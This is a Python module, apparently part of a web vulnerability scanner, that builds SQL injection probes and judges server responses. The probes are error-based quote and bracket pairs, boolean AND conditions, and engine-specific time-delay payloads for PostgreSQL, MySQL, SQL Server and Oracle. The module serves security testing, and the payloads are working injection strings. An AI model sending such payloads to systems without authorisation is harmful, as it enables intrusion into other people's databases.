"""Payloads and pure judges of the SQL family (`injection_sql` sends, these decide).

Nothing here sends a request: the payload builders take the point's original value and the
random numbers drawn for it, and the judges take answers, so tests call them directly.

- Error-based: a breaking value (an unbalanced quote, double quote, bracket or backslash)
  beside its balanced twin (the same value with the character doubled or the bracket closed).
  An engine's error counts when both breaking answers show it, no baseline answer shows that
  engine's messages, and the twin shows no new database error at all: a value that merely
  reaches the database as a bound parameter (PostgreSQL's "invalid input syntax for type
  integer") errs for the twin too.
- Boolean: a true and a false condition in the same syntax; the true one must give the
  unmodified answer each time, the false one a different answer each time, and the false
  answers must agree with each other (noise is not a difference).
- Time-based: each engine's sleep, in string and numeric forms, as builders of the requested
  seconds (`payload(0)` is the zero-delay control of the same syntax).

Payloads never write: only AND conditions (never OR, which would widen an UPDATE's WHERE), and
the one stacked statement is SQL Server's WAITFOR.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from probe.compare import Reference
from probe.exchange import ResponseRecord
from probe.probes.error_signatures import find_sql_errors, is_binary, text_views
from probe.probes.signatures import Match

_WHOLE_NUMBER = re.compile(r"-?[0-9]{1,18}")


def is_number(text: str) -> bool:
    """True when the original value is a whole number (numeric payload forms apply)."""
    return _WHOLE_NUMBER.fullmatch(text) is not None


# -- error-based --------------------------------------------------------------------------------


@dataclass(frozen=True)
class ErrorPair:
    """A value that breaks a query beside its balanced twin, which must not.

    Attributes:
        name: What breaks ("a single quote").
        breaking: The value with the unbalanced character.
        balanced: The same value with the character doubled, or the bracket closed.
    """

    name: str
    breaking: str
    balanced: str


def error_pairs(original: str, token: str, number: int) -> list[ErrorPair]:
    """The breaking values to try at a point, each with its balanced twin.

    The quotes and the backslash follow the original value and a random `token` (inside a
    string literal the token is inert); the bracket pair, for a numeric original, is an
    arithmetic on `number` that comes back to the original when the bracket is closed.
    """
    base = f"{original}{token}"
    pairs = [
        ErrorPair("a single quote", f"{base}'", f"{base}''"),
        ErrorPair("a double quote", f'{base}"', f'{base}""'),
        ErrorPair("a backslash", f"{base}\\", f"{base}\\\\"),
    ]
    if is_number(original):
        # First: in a numeric context every quote errs, its balanced twin too.
        sum_ = f"{original}-{number}+{number}"
        pairs.insert(0, ErrorPair("a closing bracket", f"{sum_})", f"({sum_})"))
    return pairs


def database_errors(response: ResponseRecord) -> dict[str, Match]:
    """Database error messages in an answer, by engine signature (`mysql`, `sqlite`, ...)."""
    content_type = response.content_type
    if is_binary(content_type):
        return {}
    text = response.text()
    if not text.strip():
        return {}
    plain = text_views(text, content_type).plain
    return {m.signature: m for m in find_sql_errors(plain)}


def new_errors(response: ResponseRecord, baselines: Sequence[ResponseRecord]) -> list[Match]:
    """The answer's database errors of engines that no baseline answer shows.

    An engine is judged by signature, not by the exact message: a page that already quotes
    one SQLite error (a help page, a log viewer) says nothing when another SQLite error shows.
    """
    known: set[str] = set()
    for baseline in baselines:
        known |= database_errors(baseline).keys()
    return [m for sig, m in database_errors(response).items() if sig not in known]


def confirmed_error(
    first: ResponseRecord,
    again: ResponseRecord,
    twin: ResponseRecord,
    baselines: Sequence[ResponseRecord],
) -> Match | None:
    """The engine error both breaking answers show and the balanced twin does not.

    The twin must show no new database error of any engine: when the balanced value errs
    too, the error is about the value's type or format, not about a broken query.
    """
    if new_errors(twin, baselines):
        return None
    repeated = {m.signature for m in new_errors(again, baselines)}
    return next((m for m in new_errors(first, baselines) if m.signature in repeated), None)


# -- boolean ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Condition:
    """A true and a false condition in the same syntax.

    Attributes:
        name: The form ("numeric", "string", "string with a comment", "arithmetic").
        true: The value whose condition holds (the query finds what the original finds).
        false: The value whose condition fails.
    """

    name: str
    true: str
    false: str


def conditions(original: str, number: int) -> list[Condition]:
    """The true/false pairs to try at a point, numeric forms first for a numeric original.

    `number` is drawn per point so the payloads carry the scan's randomness; the false
    condition compares it with `number + 1`.
    """
    other = number + 1
    string = [
        Condition(
            "string",
            f"{original}' AND '{number}'='{number}",
            f"{original}' AND '{number}'='{other}",
        ),
        Condition(
            "string with a comment",
            f"{original}' AND {number}={number}-- {number}",
            f"{original}' AND {number}={other}-- {number}",
        ),
    ]
    if not is_number(original):
        return string
    value = int(original)
    numeric = [
        Condition(
            "numeric",
            f"{original} AND {number}={number}",
            f"{original} AND {number}={other}",
        ),
        Condition(
            "arithmetic",
            f"{value + number}-{number}",
            f"{value + number}-{other}",
        ),
    ]
    return numeric + string


@dataclass(frozen=True)
class BooleanVerdict:
    """Whether a true/false pair proves a condition reaches the query.

    Attributes:
        proven: The true answers repeat the baseline and the false ones differ, alike.
        reason: Why not (empty when proven).
    """

    proven: bool
    reason: str = ""


def judge_true(reference: Reference, answer: ResponseRecord) -> BooleanVerdict:
    """A true condition must give the unmodified answer."""
    if reference.matches(answer):
        return BooleanVerdict(True)
    return BooleanVerdict(False, f"the true condition got another answer (HTTP {answer.status})")


def judge_false(reference: Reference, answer: ResponseRecord) -> BooleanVerdict:
    """A false condition must give an answer unlike the unmodified one."""
    if reference.matches(answer):
        return BooleanVerdict(False, "the false condition got the unmodified answer too")
    return BooleanVerdict(True)


def judge_boolean(
    reference: Reference,
    trues: Sequence[ResponseRecord],
    falses: Sequence[ResponseRecord],
) -> BooleanVerdict:
    """Every true answer matches the baseline, every false one differs, and the false
    answers are the same answer (a random difference is not a false condition's)."""
    for answer in trues:
        verdict = judge_true(reference, answer)
        if not verdict.proven:
            return BooleanVerdict(False, verdict.reason + " when repeated")
    for answer in falses:
        verdict = judge_false(reference, answer)
        if not verdict.proven:
            return BooleanVerdict(False, verdict.reason + " when repeated")
    if not falses:
        return BooleanVerdict(False, "no false condition was sent")
    first = Reference.learn(falses[0])
    if not all(first.matches(other) for other in falses[1:]):
        return BooleanVerdict(False, "the false condition's answers differ from each other")
    return BooleanVerdict(True)


# -- time-based ---------------------------------------------------------------------------------


# Each engine's sleep as (engine, string form, numeric form): {o} is the original value, {n}
# a random number, {t} a random token, {s} the seconds (0 for the control). Every sleep runs
# once per query, not once per row: in an uncorrelated subquery (PostgreSQL, Oracle) or a
# derived table (MySQL). String forms close their own quotes; SQL Server's WAITFOR is a
# statement of its own (it waits, it writes nothing) and comments the rest of the query out.
_SLEEPS = (
    (
        "PostgreSQL",
        "{o}'||(SELECT pg_sleep({s}))||'",
        "{o} AND {n}=(SELECT {n} FROM pg_sleep({s}))",
    ),
    (
        "MySQL/MariaDB",
        "{o}' AND {n}=(SELECT {n} FROM (SELECT SLEEP({s})){t}) AND '{n}'='{n}",
        "{o} AND {n}=(SELECT {n} FROM (SELECT SLEEP({s})){t})",
    ),
    (
        "SQL Server",
        "{o}'; WAITFOR DELAY '0:0:{s}'--{t}",
        "{o}; WAITFOR DELAY '0:0:{s}'--{t}",
    ),
    (
        "Oracle",
        "{o}' AND 1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('{t}',{s}) FROM DUAL) AND '{n}'='{n}",
        "{o} AND 1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('{t}',{s}) FROM DUAL)",
    ),
)
#: Engines whose sleep is tried, in order (SQLite has no sleep function).
SLEEP_ENGINES = tuple(engine for engine, _, _ in _SLEEPS)


@dataclass(frozen=True)
class Sleeper:
    """One engine's sleep in one syntax, for one point.

    Attributes:
        engine: The database engine ("PostgreSQL").
        form: "string" or "numeric".
        template: The payload with {o}, {n}, {t} and {s} to fill in.
        original: The point's original value.
        number: A random number drawn for the point.
        token: A random token (MySQL's derived table alias, Oracle's pipe name).
    """

    engine: str
    form: str
    template: str
    original: str
    number: int
    token: str

    @property
    def label(self) -> str:
        """How a report names it: "PostgreSQL sleep, string form"."""
        return f"{self.engine} sleep, {self.form} form"

    def payload(self, seconds: int) -> str:
        """The value asking for `seconds` of sleep (0: the zero-delay control)."""
        return self.template.format(o=self.original, n=self.number, t=self.token, s=seconds)


def sleepers(original: str, token: str, number: int) -> list[Sleeper]:
    """Each engine's sleep in string form, after its numeric form for a numeric original."""
    found: list[Sleeper] = []
    for engine, string, numeric in _SLEEPS:
        if is_number(original):
            found.append(Sleeper(engine, "numeric", numeric, original, number, token))
        found.append(Sleeper(engine, "string", string, original, number, token))
    return found
